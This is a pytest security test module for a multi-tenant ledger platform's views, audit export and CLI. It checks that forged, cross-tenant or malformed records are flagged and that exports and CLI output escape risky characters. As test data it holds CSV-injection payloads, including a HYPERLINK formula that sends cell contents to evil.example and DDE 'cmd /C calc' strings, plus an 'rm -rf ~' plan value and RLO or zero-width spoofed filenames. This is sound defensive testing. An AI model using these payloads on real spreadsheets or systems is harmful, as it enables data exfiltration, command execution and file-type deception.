"""Views of platform records, attacked by hostile tenants over real HTTP (a real `logline
serve`, real keys, the real CLI).

A view that interprets spans (metrics, executions, functions, contracts, the approvals
inbox, a request's state, the audit export) counts a span only when a platform key signed it
and it is of the caller's tenant; anything else is left out or marked with its author, and a
record the view cannot read is skipped and flagged, never a 500.
The CLI (`approvals list`, `proposal show`) prints names and paths with their invisible
and direction-changing characters escaped.

How the look-alikes are made: another tenant posts `public` spans; a writer of the tenant
posts spans signed by a key the operator trusts (stored exactly as signed, so their
`public_key` is that key's); and records of platform kinds signed by a key that is not the
platform's are appended straight into the ledger, as a ledger written before the edge key
(or by a key trusted for other kinds) may hold them.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from helpers.api import Api, Key, start_api
from helpers.cli import Ran
from helpers.governed import (
    RLO,
    TRICKY_NAME,
    People,
    append,
    forge_approval,
    op,
    operator,
    personal_ops_as,
    planned,
    post_signed,
    report_plan,
)
from nacl.signing import SigningKey

from stage0.ledger import manifest, store
from stage0.spans.display import visible
from stage0.spans.proofs import public_key_hex

pytestmark = pytest.mark.slow
RUN_CODE = "00000000-0000-4000-8000-000000000001"


@pytest.fixture(scope="module")
def api(server, template, tmp_path_factory) -> Iterator[Api]:
    yield from start_api(server, template, tmp_path_factory.mktemp("records"))


@pytest.fixture(scope="module")
def client_key(api) -> SigningKey:
    """A key the operator trusts (`logline keys trust`), without the platform role."""
    key = SigningKey.generate()
    api.cli("keys", "trust", public_key_hex(key), "--name", "wendy laptop")
    return key


def error(response: httpx.Response, status: int, code: str) -> None:
    assert response.status_code == status, response.text
    assert response.json()["error"]["code"] == code, response.text


# --- executions and metrics ---------------------------------------------------------------
@pytest.fixture(scope="module")
def executions(api, acme, globex, client_key) -> dict[str, Any]:
    """acme's one real execution beside the look-alikes of the audit."""
    made: dict[str, Any] = {"real": append(api, operator(api), entity_type="execution",
                                           status="rec_real", duration_ms=5)}
    # another tenant's public executions: one the platform recorded, one its writer posted
    made["other_platform"] = append(api, operator(api), entity_type="execution",
                                    tenant_id="globex", owner_id="wendy", visibility="public",
                                    status="rec_other_platform", duration_ms=5)
    posted = globex.http(globex.writer).post("/api/spans", json={
        "entity_type": "execution", "who": "run_code", "this": "fn", "visibility": "public",
        "status": "rec_other_posted", "duration_ms": 5})
    made["other_posted"] = posted.json() if posted.status_code == 201 else None
    # acme's writer: an execution signed by its own (trusted) key, and one by no trusted key
    made["signed"] = post_signed(acme.http(acme.writer), client_key, entity_type="execution",
                                 owner_id="wendy", status="rec_signed", duration_ms=5)
    made["forged"] = append(api, SigningKey.generate(), entity_type="execution",
                            owner_id="wendy", status="rec_forged", duration_ms=5)
    return made


def statuses(rows: list[dict]) -> dict[str, int]:
    return {r["status"]: r["count"] for r in rows if r["status"].startswith("rec_")}


def test_metrics_count_only_the_tenants_executions_signed_by_the_platform(acme, executions):
    for key in (acme.requester, acme.writer, acme.approver):
        metrics = acme.http(key).get("/api/metrics").json()
        assert statuses(metrics["executions"]) == {"rec_real": 1}
        assert sum(r["count"] for r in metrics["days"]) == \
            sum(r["count"] for r in metrics["executions"])


def test_another_tenant_sees_none_of_them_but_its_own_platform_record(globex, executions):
    seen = statuses(globex.http(globex.requester).get("/api/metrics").json()["executions"])
    assert "rec_real" not in seen and "rec_forged" not in seen and "rec_signed" not in seen
    assert seen.get("rec_other_platform") == 1


def test_the_executions_view_lists_platform_records_and_flags_the_lookalikes(acme, executions):
    answer = acme.http(acme.requester).get("/api/executions", params={"limit": 500}).json()
    ids = {s["id"] for s in answer["items"]}
    assert executions["real"]["id"] in ids
    others = [executions[k] for k in ("other_platform", "other_posted", "signed", "forged")]
    assert not ids & {s["id"] for s in others if s}
    flagged = {f["id"]: f["reason"] for f in answer["flags"]}
    for name in ("signed", "forged"):
        if executions[name]:
            assert flagged[executions[name]["id"]] == "KIND_NOT_PLATFORM_SIGNED"
    assert executions["other_platform"]["id"] not in flagged  # another tenant's: not shown at all
    only = acme.http(acme.requester).get("/api/executions",
                                         params={"status": "rec_forged"}).json()
    assert only["items"] == []


def test_a_writers_own_execution_counts_only_when_a_platform_key_signed_it(api, acme,
                                                                           executions):
    """Whatever POST /api/spans stores: the views follow its signature. (With the edge key,
    a client's span is never signed by a platform key, so this never counts.)"""
    response = acme.http(acme.writer).post("/api/spans", json={
        "entity_type": "execution", "who": "run_code", "this": "fn", "visibility": "tenant",
        "status": "rec_posted", "duration_ms": 5})
    if response.status_code != 201:
        return  # refused at append: nothing to count
    platform = set(acme.http(acme.writer).get("/api/me").json()["platform_keys"])
    counted = statuses(acme.http(acme.writer).get("/api/metrics").json()["executions"])
    assert ("rec_posted" in counted) == (response.json()["public_key"] in platform)


def test_prometheus_counts_only_executions_signed_by_the_platform(api, executions):
    text = api.scrape().text
    assert 'logline_executions{status="rec_real"} 1.0' in text
    assert 'status="rec_forged"' not in text and 'status="rec_signed"' not in text


def test_a_key_the_manifest_gives_the_platform_role_counts_from_that_version_on(api, acme,
                                                                               executions):
    """Role `platform` in the manifest's trusted_keys makes a key's records count, at once:
    the views read the manifest's latest version (its check cached per version)."""
    key = SigningKey.generate()
    append(api, key, entity_type="execution", status="rec_platform_key", duration_ms=5)

    def seen() -> dict[str, int]:
        return statuses(acme.http(acme.requester).get("/api/metrics").json()["executions"])

    assert "rec_platform_key" not in seen()
    with api.kernel() as conn:
        trusted = manifest.latest(conn, api.home.root_public_key())["metadata"]["trusted_keys"]
        manifest.amend(conn, operator(api), trusted_keys=[*trusted, {
            "name": "second worker", "public_key": public_key_hex(key), "role": "platform"}])
    assert seen().get("rec_platform_key") == 1
    assert public_key_hex(key) in acme.http(acme.requester).get("/api/me").json()[
        "platform_keys"]


# --- functions and kernels ----------------------------------------------------------------
def test_the_functions_view_holds_the_tenants_functions_and_only_the_systems_kernels(
        api, acme, globex):
    hers = globex.http(globex.writer).post("/api/spans", json={
        "entity_type": "function", "who": "wendy", "this": "evil_kernel", "name": "evil_kernel",
        "visibility": "public", "code": "def main(input):\n    return 1\n",
        "language": "python", "metadata": {"kernel": True}}).json()
    mine = acme.http(acme.writer).post("/api/spans", json={
        "entity_type": "function", "who": "wendy", "this": "fake_kernel", "name": "fake_kernel",
        "visibility": "tenant", "code": "def main(input):\n    return 1\n",
        "language": "python", "metadata": {"kernel": True}}).json()
    forged = append(api, SigningKey.generate(), entity_type="function", this="forged_kernel",
                    name="forged_kernel", owner_id="system", tenant_id="system",
                    visibility="public", metadata={"kernel": True})
    items = {f["id"]: f for f in acme.http(acme.requester).get("/api/functions").json()["items"]}
    assert items[RUN_CODE]["kernel"] is True and items[RUN_CODE]["tenant_id"] == "system"
    assert items[mine["id"]]["kernel"] is False  # its own metadata does not make a kernel
    assert hers["id"] not in items and forged["id"] not in items
    assert all(f["tenant_id"] in ("acme", "system") for f in items.values())
    assert all(f["kernel"] == (f["tenant_id"] == "system") for f in items.values())


# --- contracts ----------------------------------------------------------------------------
def contract_span(name: str, content: Any, tenant: str = "acme") -> dict[str, Any]:
    return {"id": str(uuid.uuid4()), "entity_type": "contract", "who": "ann", "did": "published",
            "this": f"{name}@1.0.0", "name": name, "owner_id": "ann", "tenant_id": tenant,
            "visibility": "tenant", "status": "published", "content": content}


@pytest.mark.parametrize("signer, content, reason", [
    ("stranger", "valid", "KIND_NOT_PLATFORM_SIGNED"),
    ("operator", {"name": "broken_ops"}, "RECORD_MALFORMED"),
    ("operator", {"name": "broken_ops", "version": "1.0.0", "actions": "delete everything"},
     "RECORD_MALFORMED"),
    ("operator", ["not", "an", "object"], "RECORD_MALFORMED"),
])
def test_a_contract_the_platform_did_not_sign_or_cannot_read_is_left_out_and_flagged(
        api, acme, signer, content, reason):
    valid = acme.http(acme.requester).get("/api/contracts").json()["items"][0]
    if content == "valid":
        content = {"name": "lookalike_ops", "version": "1.0.0", "actions": valid["actions"]}
    key = operator(api) if signer == "operator" else SigningKey.generate()
    with api.kernel() as conn:
        [span] = store.append(conn, [contract_span("lookalike_ops", content)], key)
    answer = acme.http(acme.requester).get("/api/contracts")
    assert answer.status_code == 200, answer.text
    body = answer.json()
    assert span["id"] not in {c["id"] for c in body["items"]}
    assert {"personal_ops@1.0.0", "api@1.0.0"} <= {c["ref"] for c in body["items"]}
    assert {f["id"]: f["reason"] for f in body["flags"]}[span["id"]] == reason
    listed = api.cli("contract", "list", "--tenant", "acme").stdout
    assert "personal_ops@1.0.0" in listed and f"flagged {span['id']} {reason}" in listed


# --- governed requests: the inbox, a request's state ----------------------------------------


def inbox(people: People, key: Key | None = None) -> dict[str, Any]:
    answer = people.http(key or people.approver).get("/api/approvals",
                                                     params={"limit": 200})
    assert answer.status_code == 200, answer.text
    return answer.json()


@pytest.mark.parametrize("output", [
    {"ops": "rm -rf ~"},
    {"ops": [1, 2, 3]},
    {"ops": [None]},
    {"ops": {"op": "trash", "path": "a.jpg"}},
    {"ops": [{"op": "trash"}]},
    {"ops": [{"op": "trash", "path": 5}]},
    {"ops": [{"op": "trash", "path": "a.jpg", "size": -1}]},
    {"ops": [{"op": "trash", "path": "a.jpg", "to": ["x"]}]},
    {"files": []},
], ids=lambda o: json.dumps(o)[:40])
def test_a_malformed_plan_from_an_agent_key_never_breaks_the_inbox(api, acme, output):
    good = planned(acme, ["photos/good.jpg"])
    bad = planned(acme, ["photos/bad.jpg"], output)
    body = inbox(acme)
    items = {i["id"]: i for i in body["items"]}
    assert items[good["proposal_id"]]["state"] == "pending"
    broken = items[bad["proposal_id"]]
    assert broken["state"] == "plan_failed" and broken["plan"] is None
    [flag] = broken["flags"]
    assert flag["reason"] == "PLAN_MALFORMED" and flag["detail"].startswith("ops")
    assert flag["id"] == broken["jobs"]["plan"]["result"]["id"]
    one = acme.http(acme.approver).get(f"/api/proposals/{bad['proposal_id']}")
    assert one.status_code == 200 and one.json()["flags"] == [flag]
    # never approvable; the inbox keeps answering, in every filter, and so does the CLI
    error(acme.http(acme.approver).post(f"/api/approvals/{bad['proposal_id']}", json={
        "decision": "approve", "reason": "looks fine"}), 409, "G_NOT_PENDING")
    for state in ("pending", "plan_failed", "planning,pending"):
        assert acme.http(acme.approver).get("/api/approvals",
                                            params={"state": state}).status_code == 200
    listed = cli_as(api, acme.approver, "approvals", "list", "--state", "")
    assert f"{bad['proposal_id']}  plan_failed" in listed
    assert f"flagged {flag['id']} PLAN_MALFORMED" in listed


@pytest.mark.parametrize("signer", ["trusted", "untrusted"])
def test_an_approval_not_signed_by_the_platform_never_counts(api, acme, client_key, signer):
    key = client_key if signer == "trusted" else SigningKey.generate()
    asked = planned(acme, [f"photos/{signer}.jpg"])
    forged = forge_approval(api, asked, "approved", key)
    state = acme.http(acme.approver).get(f"/api/proposals/{asked['proposal_id']}").json()
    assert state["approvals"] == [] and state["state"] == "pending"
    assert {f["id"]: f["reason"] for f in state["flags"]} == {
        forged["id"]: "KIND_NOT_PLATFORM_SIGNED"}
    item = {i["id"]: i for i in inbox(acme)["items"]}[asked["proposal_id"]]
    assert item["approvals"] == [] and item["flags"] == state["flags"]


def test_a_forged_rejection_does_not_end_a_request(api, acme):
    asked = planned(acme, ["photos/rejected.jpg"])
    forge_approval(api, asked, "rejected", SigningKey.generate())
    assert acme.http(acme.approver).get(
        f"/api/proposals/{asked['proposal_id']}").json()["state"] == "pending"
    answer = acme.http(acme.approver).post(f"/api/approvals/{asked['proposal_id']}", json={
        "decision": "approve", "reason": "real"})
    assert answer.status_code == 200, answer.text
    assert (answer.json()["outcome"], answer.json()["approvals"]) == ("ALLOW", 1)


def test_the_gate_counts_only_approvals_the_platform_signed(api, acme, client_key):
    """A quorum of two: one real approval and one forged do not make two."""
    quorum = personal_ops_as("quorum_ops")
    quorum["actions"]["delete"]["approvals"] = 2
    admin = acme.http(acme.admin)
    assert admin.post("/api/contracts", json={"contract": quorum}).status_code == 201
    assert admin.post("/api/contracts/activate", json={"ref": "quorum_ops@1.0.0"}
                      ).status_code == 200
    asked = planned(acme, ["photos/quorum.jpg"], action="quorum_ops.delete")
    forge_approval(api, asked, "approved", client_key, owner="percy")
    answer = acme.http(acme.approver).post(f"/api/approvals/{asked['proposal_id']}", json={
        "decision": "approve", "reason": "one of two"}).json()
    assert (answer["outcome"], answer["approvals"], answer["required"]) == (
        "PENDING_APPROVAL", 1, 2)
    # and the forged approver's own answer is not a replay of the forgery
    second = acme.http(acme.approver2).post(f"/api/approvals/{asked['proposal_id']}", json={
        "decision": "approve", "reason": "two of two"}).json()
    assert (second["outcome"], second["approvals"]) == ("ALLOW", 2)


def test_another_tenant_cannot_see_or_count_in_a_request(api, acme, globex):
    asked = planned(acme, ["photos/private.jpg"])
    for key in (globex.approver, globex.requester):
        error(globex.http(key).get(f"/api/proposals/{asked['proposal_id']}"), 404, "NOT_FOUND")
        assert asked["proposal_id"] not in {i["id"] for i in inbox(globex, key)["items"]}


# --- the audit trail and its export ----------------------------------------------------------
def export(people: People, key: Key, **params: Any) -> httpx.Response:
    answer = people.http(key).get("/api/audit/export", params=params)
    assert answer.status_code == 200, answer.text
    return answer


def verify_export(api: Api, tmp_path, text: str) -> Ran:
    path = tmp_path / f"export-{uuid.uuid4().hex[:8]}.jsonl"
    path.write_text(text)
    return api.cli("verify", "--export", str(path), check=False)


@pytest.fixture(scope="module")
def trail(api, acme, globex, client_key) -> dict[str, Any]:
    """A request of acme, and what others wrote into its trail."""
    asked = planned(acme, ["photos/trail.jpg"])
    trace = asked["trace_id"]
    made: dict[str, Any] = {"asked": asked, "trace": trace}
    # a writer's approval-shaped span of a plain kind, signed by their (trusted) key
    made["lookalike"] = post_signed(
        acme.http(acme.writer), client_key, entity_type="note", who="paula", did="approved",
        this="personal_ops.delete", owner_id="wendy", parent_id=asked["proposal_id"],
        trace_id=trace, status="approved",
        content={"reason": "lgtm", "plan_hash": "0" * 64, "roles": ["approver"]})
    # an `approval` the platform never signed
    made["forged"] = forge_approval(api, asked, "approved", client_key, owner="wendy")
    # another tenant's public spans carrying acme's trace id
    made["other"] = globex.http(globex.writer).post("/api/spans", json={
        "entity_type": "note", "who": "paula", "did": "approved", "this": "personal_ops.delete",
        "visibility": "public", "trace_id": trace, "status": "approved"}).json()
    return made


def test_a_lookalike_approval_does_not_count_in_the_requests_state(acme, trail):
    state = acme.http(acme.approver).get(f"/api/proposals/{trail['asked']['proposal_id']}")
    assert state.json()["approvals"] == []
    assert [f["id"] for f in state.json()["flags"]] == [trail["forged"]["id"]]


def test_the_export_holds_only_the_tenants_spans_each_marked_with_what_it_is(api, acme,
                                                                              trail):
    lines = [json.loads(x) for x in export(acme, acme.approver,
                                           trace_id=trail["trace"]).text.splitlines()]
    by_id = {s["id"]: s for s in lines}
    assert trail["other"]["id"] not in by_id
    assert {s["tenant_id"] for s in lines} == {"acme"}
    assert by_id[trail["forged"]["id"]]["record"] == "forged"
    assert by_id[trail["lookalike"]["id"]]["record"] == "tenant"
    platform = [s for s in lines if s["record"] == "platform"]
    assert {"gate_decision", "approval_request", "job", "job_claim", "job_result"} <= {
        s["entity_type"] for s in platform}
    assert not [s for s in lines if s["entity_type"] == "approval" and s["record"] ==
                "platform"]
    # by type, too: another tenant's public spans are never in a tenant's export
    notes = export(acme, acme.viewer, entity_type="note").text
    assert trail["other"]["id"] not in notes


def test_verify_export_fails_a_platform_kind_the_platform_did_not_sign(api, acme, trail,
                                                                       tmp_path):
    text = export(acme, acme.approver, trace_id=trail["trace"]).text
    proc = verify_export(api, tmp_path, text)
    assert proc.returncode == 1
    assert f"{trail['forged']['id']} KIND_NOT_PLATFORM_SIGNED" in proc.stdout
    others = "".join(line + "\n" for line in text.splitlines()
                     if json.loads(line)["id"] != trail["forged"]["id"])
    proc = verify_export(api, tmp_path, others)
    assert proc.returncode == 0, proc.stdout
    assert "1 written by tenants" in proc.stdout  # the writer's look-alike, for what it is


def test_verify_export_fails_a_line_relabelled_as_a_platform_record(api, acme, trail,
                                                                    tmp_path):
    line = json.loads(export(acme, acme.approver, trace_id=trail["trace"],
                             entity_type="note").text.splitlines()[0])
    assert line["id"] == trail["lookalike"]["id"]
    line["record"] = "platform"
    proc = verify_export(api, tmp_path, json.dumps(line) + "\n")
    assert proc.returncode == 1
    assert "RECORD_MISLABELLED" in proc.stdout


FORMULAS = {"this": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
            "who": "+1+cmd|' /C calc'!A0", "did": "-2+3", "status": "@SUM(1+1)*cmd|' /C calc'!A0"}


@pytest.mark.parametrize("field, value", [
    *FORMULAS.items(), ("who", "\t=1+1"), ("did", "\r=1+1"), ("this", "=1+1"),
    ("this", f"photo{RLO}gpj.exe"), ("status", "\u200bapproved"),
])
def test_csv_cells_a_spreadsheet_would_run_or_misread_are_escaped(api, acme, tmp_path, field,
                                                                   value):
    trace = str(uuid.uuid4())
    span = {"entity_type": "note", "who": "wendy", "this": "a note", "trace_id": trace,
            "visibility": "tenant", field: value}
    posted = acme.http(acme.writer).post("/api/spans", json=span)
    assert posted.status_code == 201, posted.text
    text = export(acme, acme.approver, trace_id=trace, format="csv").text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    for cell in rows[0].values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        assert RLO not in cell and "\u200b" not in cell
    shown = rows[0][field]
    if value.startswith(("=", "+", "-", "@")):
        assert shown == "'" + value  # defused, and still readable
    else:
        assert shown == visible(value) and "\\u" in shown
    # the JSON lines keep the span exactly as signed, and verify
    jsonl = export(acme, acme.approver, trace_id=trace).text
    assert json.loads(jsonl)[field] == value
    assert verify_export(api, tmp_path, jsonl).returncode == 0


# --- the CLI inbox ----------------------------------------------------------------------------
def cli_as(api: Api, key: Key, *args: str) -> str:
    proc = api.cli(*args, "--url", api.url, "--token", key.token, check=False)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return proc.stdout


@pytest.mark.parametrize("name", [TRICKY_NAME, "report\u2067.pdf\u2069.exe",
                                  "a\u200bb.txt", "line\nbreak.txt", "bell\x07.txt",
                                  "c1\x85.txt"])
def test_the_cli_shows_invisible_characters_in_names_escaped(api, acme, name):
    asked = planned(acme, ["photos/x.jpg"], {"ops": [op(name), op("photos/y.jpg")]})
    listed = cli_as(api, acme.approver, "approvals", "list")
    escaped = "".join(c if c.isascii() and c.isprintable() else f"\\u{ord(c):04x}"
                      for c in name)
    assert f"trash   {escaped}" in listed, listed
    # the request's own page, with the agent's results of the same names
    approved = acme.http(acme.approver).post(f"/api/approvals/{asked['proposal_id']}", json={
        "decision": "approve", "reason": "fine"}).json()
    report_plan(acme, approved["job_id"], {"results": [
        {"op": "trash", "path": name, "to": f".logline-trash/{name}", "status": "done"},
        "not a result", 7]})
    shown = cli_as(api, acme.approver, "proposal", "show", asked["proposal_id"])
    assert f"done     trash   {escaped} -> .logline-trash/{escaped}" in shown, shown
    assert '"not a result"' in shown
    for text in (listed, shown):
        assert not any(c in text for c in (RLO, "\u2067", "\u200b", "\x07", "\x85"))
        assert "\nbreak.txt" not in text
